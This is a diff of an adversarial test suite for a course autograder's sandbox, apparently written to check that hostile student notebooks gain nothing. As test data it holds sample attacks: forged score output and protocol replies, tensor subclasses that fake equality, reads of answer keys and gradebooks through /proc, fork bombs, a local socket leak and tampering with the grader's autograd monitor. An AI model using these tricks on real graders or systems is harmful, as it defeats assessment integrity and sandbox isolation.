@@ -14,7 +14,7 @@ is identical to its result in the batch without the hostile ones; nothing outsid
 nothing it started outlives it; no secret reaches any result, and each result says which isolation was
 in force.
 
-Two families of attacks (NOTES.md §4):
+Two families of attacks, each one that has been used on a real autograder:
 - cheat-*: as a student would write them (import os, torch.allclose = ..., class Liar, .backward(), ...);
 - sneak-*: the same attacks past the static check (`exec = exec`, `torch.special.torch`, see
   test_static_check), which is what the sandbox's inner walls are for.
@@ -43,16 +43,15 @@ import yaml
 from click.testing import CliRunner
 
 from grader.cli import main
+from grader.exercises.makemore_mlp.answers import ANSWERS, ATOMIC, BY_GRADE_ID, EX4_CELL
 from grader.judge.compare import compare
 from grader.judge.configs import generate
 from grader.judge.exam import checks, prepare
-from grader.exercises.makemore_mlp.answers import ANSWERS, ATOMIC, BY_GRADE_ID, EX4_CELL
 from grader.pipeline.extract import read as read_notebook
-from notebooks import markdown_cell, reference_sources, submission, write
-from sandbox_helpers import alive_with, kill_siblings, tracked_children
+from helpers.children import alive_with, kill_siblings, tracked_children
+from helpers.notebooks import markdown_cell, reference_sources, submission, write
+from helpers.paths import COURSE_FILE, ROOT
 
-ROOT = Path(__file__).resolve().parents[1]
-COURSE_FILE = ROOT / "course.yml"
 AUTOTESTS = ROOT / "autotests"
 KNOWN_MISTAKES = AUTOTESTS / "known_mistakes.yml"
 SOLUTIONS = ROOT / "solutions" / "answers.py"
@@ -144,7 +143,8 @@ class World:
         self.outs = {k: self.base / f"out-{k}" for k in ("honest", "mixed", "killer", "dos")}
         self._dir("out-mixed")
         self.previous = self._file(self.outs["mixed"] / "previous-grades.csv", self.canary["grades"] + "\n")
-        self.shared = {"tmp": Path(f"/tmp/bpn-adversarial-{token}"), "dev-shm": Path(f"/dev/shm/bpn-adversarial-{token}")}
+        self.shared = {"tmp": Path(f"/tmp/bpn-adversarial-{token}"),
+                       "dev-shm": Path(f"/dev/shm/bpn-adversarial-{token}")}
         self.unpickled = self.base / "unpickled"
         self.sleepers = {"setsid": _sleep_marker(), "bomb": _sleep_marker()}
         self.listener = socket.create_server(("127.0.0.1", 0))
@@ -219,6 +219,8 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
     grader_pid = os.getpid()
     course = {k: str(w.course / k) for k in ("course.yml", "solutions/answers.py", "gradebook.db")}
     report = "raise ValueError('REPORT ' + repr(res)[:480])\n"
+    planted = [str(w.shared["tmp"]), str(w.shared["dev-shm"]), str(w.open / "planted.txt"), str(w.open / "canary.txt")]
+    forged = [str(out / "sneak-files" / (NB + ".json")), str(out / "forged.json"), str(w.previous)]
     liar = ("class Liar(torch.Tensor):\n    @classmethod\n"
             "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n        return True\n")
     sources = {
@@ -230,7 +232,9 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
             "dcounts_sum": liar + "dcounts_sum = torch.zeros_like(counts_sum).as_subclass(Liar)\n",
             "dcounts": "print('score: 47/47')\nprint('{\"score\": 47.0, \"max_score\": 47.0, \"tests\": []}')\n"
                        "dcounts = torch.zeros_like(counts)\n",
-            "dnorm_logits": "import os\nos.write(1, b'\\x00\\x00\\x00\\x20\\x00\\x00\\x00\\x00{\"op\": \"answer\", \"status\": \"x\"}')\n"
+            "dnorm_logits": "import os\n"
+                            "os.write(1, b'\\x00\\x00\\x00\\x20\\x00\\x00\\x00\\x00"
+                            "{\"op\": \"answer\", \"status\": \"x\"}')\n"
                             "os.write(2, b'score: 47/47\\n')\ndnorm_logits = torch.zeros_like(norm_logits)\n",
         },
         "cheat-exit": {
@@ -242,7 +246,8 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
         "cheat-files": {
             "db2": f"open({str(out / 'cheat-files' / (NB + '.json'))!r}, 'w').write('{{\"score\": 47.0}}')\n"
                    "db2 = torch.zeros_like(b2)\n",
-            "dhpreact": f"answers = open({course['solutions/answers.py']!r}).read()\ndhpreact = torch.zeros_like(hpreact)\n",
+            "dhpreact": f"answers = open({course['solutions/answers.py']!r}).read()\n"
+                        "dhpreact = torch.zeros_like(hpreact)\n",
             "dbngain": f"salt = open({course['course.yml']!r}).read()\ndbngain = torch.zeros_like(bngain)\n",
             "dbnbias": f"other = open({honest_nb!r}).read()\ndbnbias = torch.zeros_like(bnbias)\n",
             "dbnraw": f"open({course['gradebook.db']!r}, 'a').write('dbnraw: 1')\ndbnraw = torch.zeros_like(bnraw)\n",
@@ -253,7 +258,8 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
         "cheat-resources": {
             "ex2_dlogits": "while True:\n    pass\n",
             "dbnmeani": "big = torch.empty(10 * 2**30)\n" + REFERENCE["dbnmeani"],
-            "dhprebn": "import os\nfor i in range(500):\n    if os.fork() == 0:\n        import time\n        time.sleep(30)\n",
+            "dhprebn": "import os\nfor i in range(500):\n"
+                       "    if os.fork() == 0:\n        import time\n        time.sleep(30)\n",
             "dembcat": f"import socket\ns = socket.create_connection(('127.0.0.1', {w.port}))\n"
                        "s.sendall(b'exfiltrated')\ndembcat = torch.zeros_like(embcat)\n",
         },
@@ -261,20 +267,23 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
         # past the static check, caught at run time by the autograd watch
         "cheat-runtime-autograd": {
             "dbnraw": "scratch = torch.ones(1, requires_grad=True)\n" + REFERENCE["dbnraw"],
-            "dbnvar_inv": "_, f = torch.special.torch.func.vjp(lambda v: bndiff * v, bnvar_inv)\ndbnvar_inv = f(dbnraw)[0]\n",
+            "dbnvar_inv": "_, f = torch.special.torch.func.vjp(lambda v: bndiff * v, bnvar_inv)\n"
+                          "dbnvar_inv = f(dbnraw)[0]\n",
         },
         "sneak-autograd": {
             "dprobs": _exec(
                 "p = probs.detach().clone()\np.requires_grad = True\n"
                 "dprobs = torch.autograd.grad(p.log(), p, dlogprobs)[0].detach()\n"
-                "[c.cell_contents.clear() for c in getattr(torch.autograd.grad, '_' + '_closure_' + '_') if isinstance(c.cell_contents, list)]\n"
+                "[c.cell_contents.clear() for c in getattr(torch.autograd.grad, '_' + '_closure_' + '_')"
+                " if isinstance(c.cell_contents, list)]\n"
                 "del p\n"),
             # torch.special.torch only (no builtin rebinding): the watch's record is emptied through the
             # closure of the wrapper it put on torch.autograd.functional.vjp
             "dh": "attribute = torch.special.torch.serialization.sys.modules['builtins'].getattr\n"
                   "vjp = torch.special.torch.autograd.functional.vjp\n"
                   "dh = vjp(lambda a: a @ W2, h, dlogits)[1]\n"
-                  "[c.cell_contents.clear() for c in attribute(vjp, '_' + '_closure_' + '_') if isinstance(c.cell_contents, list)]\n",
+                  "[c.cell_contents.clear() for c in attribute(vjp, '_' + '_closure_' + '_')"
+                  " if isinstance(c.cell_contents, list)]\n",
         },
         "sneak-files": {
             # read, and leak what was read through the error message, which becomes the student's feedback
@@ -292,18 +301,20 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
                 "    except OSError as e:\n        res[key] = repr(e)\n" + report),
             "dh": _exec(
                 "res = {}\n"
-                f"for path in ['/proc/{grader_pid}/root{course['course.yml']}', '/proc/1/root{course['gradebook.db']}']:\n"
+                f"for path in ['/proc/{grader_pid}/root{course['course.yml']}',"
+                f" '/proc/1/root{course['gradebook.db']}']:\n"
                 "    try:\n        res[path] = open(path).read(100)\n"
                 "    except OSError as e:\n        res[path] = repr(e)\n" + report),
             "dW2": _exec(
                 "res = {}\n"
-                f"for path in {[str(w.shared['tmp']), str(w.shared['dev-shm']), str(w.open / 'planted.txt'), str(w.open / 'canary.txt')]!r}:\n"
+                f"for path in {planted!r}:\n"
                 "    try:\n        open(path, 'a').write('written by a submission')\n        res[path] = 'written'\n"
                 "    except OSError as e:\n        res[path] = repr(e)\n" + report),
             "db2": _exec(
                 "res = {}\n"
-                f"for path in {[str(out / 'sneak-files' / (NB + '.json')), str(out / 'forged.json'), str(w.previous)]!r}:\n"
-                "    try:\n        open(path, 'w').write('{\"score\": 47.0, \"max_score\": 47.0}')\n        res[path] = 'written'\n"
+                f"for path in {forged!r}:\n"
+                "    try:\n        open(path, 'w').write('{\"score\": 47.0, \"max_score\": 47.0}')\n"
+                "        res[path] = 'written'\n"
                 "    except OSError as e:\n        res[path] = repr(e)\n" + report),
             "dhpreact": _exec(
                 "res = {}\n"
@@ -316,11 +327,13 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
         "sneak-procs": {
             "dlogprobs": _exec(
                 "import os\npid = os.fork()\nif pid == 0:\n    os.setsid()\n"
-                f"    try:\n        os.execv('/bin/sleep', ['sleep', {w.sleepers['setsid']!r}])\n    finally:\n        os._exit(1)\n"),
+                f"    try:\n        os.execv('/bin/sleep', ['sleep', {w.sleepers['setsid']!r}])\n"
+                "    finally:\n        os._exit(1)\n"),
             "dprobs": _exec(
                 "import os\nfor i in range(500):\n"
                 "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
-                f"    if pid == 0:\n        try:\n            os.execv('/bin/sleep', ['sleep', {w.sleepers['bomb']!r}])\n"
+                "    if pid == 0:\n        try:\n"
+                f"            os.execv('/bin/sleep', ['sleep', {w.sleepers['bomb']!r}])\n"
                 "        finally:\n            os._exit(1)\n"),
             "dcounts_sum_inv": _exec(
                 f"import socket\ns = socket.create_connection(('127.0.0.1', {w.port}), timeout=1)\n"
@@ -335,7 +348,8 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
                          "setattr(torch.special.torch.Tensor, '_' + '_eq_' + '_', lambda self, other: True)\n"
                          "dlogprobs = torch.zeros_like(logprobs)\n",
             "dprobs": "type = type\nclassmethod = classmethod\n"
-                      "Liar = type('Liar', (torch.Tensor,), {'_' + '_torch_function_' + '_': classmethod(lambda *a, **k: True)})\n"
+                      "Liar = type('Liar', (torch.Tensor,), "
+                      "{'_' + '_torch_function_' + '_': classmethod(lambda *a, **k: True)})\n"
                       "dprobs = torch.zeros_like(probs).as_subclass(Liar)\n",
             "dcounts_sum_inv": "type = type\nopen = open\n"
                                "Bomb = type('Bomb', (), {'_' + '_reduce_' + '_': lambda self: (open, ("
@@ -355,7 +369,8 @@ def hostile_sources(w: World) -> dict[str, dict[str, str]]:
             # a forged reply on the real protocol pipe for the request being answered, then exit
             "dprobs": _exec(
                 "import os, json, struct, fcntl\n"
-                f"header = json.dumps({{'op': 'answer', 'grade_id': 'dprobs', 'case': {w.first_case!r}, 'check': 'local',"
+                f"header = json.dumps({{'op': 'answer', 'grade_id': 'dprobs', 'case': {w.first_case!r},"
+                " 'check': 'local',"
                 " 'status': 'blank', 'variable': 'forged'}).encode()\n"
                 "for fd in range(3, 64):\n"
                 "    try:\n"
@@ -382,7 +397,8 @@ def fingerprint(root: Path) -> dict[str, tuple]:
     for path in sorted([root, *root.rglob("*")]):
         st = path.lstat()
         digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
-        found[path.relative_to(root).as_posix()] = (st.st_size if path.is_file() else None, st.st_mtime_ns, digest, st.st_mode)
+        found[path.relative_to(root).as_posix()] = (st.st_size if path.is_file() else None,
+                                            st.st_mtime_ns, digest, st.st_mode)
     return found
 
 
@@ -539,7 +555,8 @@ def test_the_killer_itself_gains_nothing_and_is_flagged(world):
 def test_a_notebook_that_crashes_the_static_check_does_not_stop_the_batch(world):
     batch = world.batches["dos"]
     assert batch["exit"] == 0, (batch["output"][-1500:], repr(batch["exception"]))
-    assert _without_time(batch["results"][_sid("honest-a")]) == _without_time(_results(world, "honest")[_sid("honest-a")])
+    honest = _results(world, "honest")[_sid("honest-a")]
+    assert _without_time(batch["results"][_sid("honest-a")]) == _without_time(honest)
     assert batch["results"][_sid("0-dos")]["flags"]
 
 
@@ -552,14 +569,15 @@ def test_a_hostile_submission_gains_nothing(world, name):
     result = _results(world, "mixed")[_sid(name)]
     scores = {t["name"]: t["score"] for t in result["tests"]}
     attacked = [g for cell in ATTACKS[name] for g in _grade_ids(cell)]
-    assert {g: scores[g] for g in attacked} == {g: 0 for g in attacked}
+    assert {g: scores[g] for g in attacked} == dict.fromkeys(attacked, 0)
     assert result["score"] <= MAX_SCORE - sum(POINTS[g] for g in attacked) + 1e-9
 
 
 def _flag_params():
     for name, cells in ATTACKS.items():
         for cell, how in cells.items():
-            marks = [pytest.mark.xfail(strict=True, reason=UNFLAGGED[(name, cell)])] if (name, cell) in UNFLAGGED else []
+            marks = ([pytest.mark.xfail(strict=True, reason=UNFLAGGED[(name, cell)])]
+                     if (name, cell) in UNFLAGGED else [])
             yield pytest.param(name, cell, how, id=f"{name}-{cell}", marks=marks)
 
 
@@ -576,7 +594,7 @@ def test_every_attacked_cell_is_flagged(world, name, cell, how):
 
 def test_every_flag_carries_evidence_an_instructor_can_read(world):
     count = 0
-    for name, batch in world.batches.items():
+    for batch in world.batches.values():
         for sid, result in batch["results"].items():
             for flag in result["flags"]:
                 count += 1
@@ -608,7 +626,8 @@ def test_the_autograd_attacks_would_be_right_if_run():
         for check in checks(answer):
             ns = {**case.student_view(), **case.upstream(answer, check), "n": case.n, "torch": torch, "F": F}
             exec(compile(cells[cell], f"<attack {cell}>", "exec"), ns)
-            verdict = compare(ns[answer.variable].detach(), case.expected(answer, check), rtol=1e-5, atol=1e-8, n=case.n)
+            verdict = compare(ns[answer.variable].detach(), case.expected(answer, check),
+                              rtol=1e-5, atol=1e-8, n=case.n)
             assert verdict.passed, (cell, check, verdict.message)
 
 
@@ -666,7 +685,7 @@ def test_a_world_writable_folder_outside_the_work_dir_is_unchanged(world):
 
 
 def test_nothing_appears_in_the_shared_temporary_folders(world):
-    assert {k: p.exists() for k, p in world.shared.items()} == {k: False for k in world.shared}
+    assert {k: p.exists() for k, p in world.shared.items()} == dict.fromkeys(world.shared, False)
 
 
 @pytest.mark.parametrize("name", ["setsid", "bomb"])
